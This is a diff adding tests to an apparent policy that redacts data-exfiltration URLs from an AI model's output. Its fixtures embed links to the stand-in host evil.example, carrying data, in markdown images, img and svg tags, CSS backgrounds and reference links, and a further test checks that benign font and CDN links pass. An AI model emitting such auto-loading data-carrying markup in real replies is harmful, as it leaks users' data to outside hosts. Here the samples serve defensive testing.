@@ -67,3 +67,32 @@ test_allowed_without_content if {
 	effects := markdown_exfiltration.redact with input as {"kind": "text", "role": "assistant"}
 	effects == set()
 }
+
+test_masked_in_other_shapes_that_load_or_link if {
+	_cut(`![x](https:\\evil.example\?d=s)`) == {`https:\\evil.example\?d=s`}
+	url := concat("", ["https://evil.example/?q=", _data])
+	every text in [
+		concat("", ["![a[b]c](", url, ")"]), concat("", ["<img/src=\"", url, "\">"]),
+		concat("", ["<svg><image href='", url, "'/></svg>"]), concat("", ["<body background=", url, ">"]),
+		concat("", ["<div style=\"background:url(", url, ")\">"]), concat("", ["<a class=b href=\"", url, "\">x</a>"]),
+		concat("", ["[x][1]\n\n[1]: <", url, ">"]),
+	] {
+		_cut(text) == {url}
+	}
+}
+
+test_masked_links_with_a_long_step if {
+	url := concat("", ["https://evil.example/", _data])
+	_cut(concat("", ["[click](", url, ")"])) == {url}
+}
+
+test_allowed_code_of_pages if {
+	every text in [
+		"<link href=\"https://fonts.example/css2?family=Inter\" rel=\"stylesheet\">",
+		"<a href=\"https://example.com/?a=b\">x</a>",
+		"<script src=\"https://cdn.example/js?v=3\"></script>",
+		"<style>@import url('https://fonts.example/?family=A');</style>",
+	] {
+		_cut(text) == set()
+	}
+}
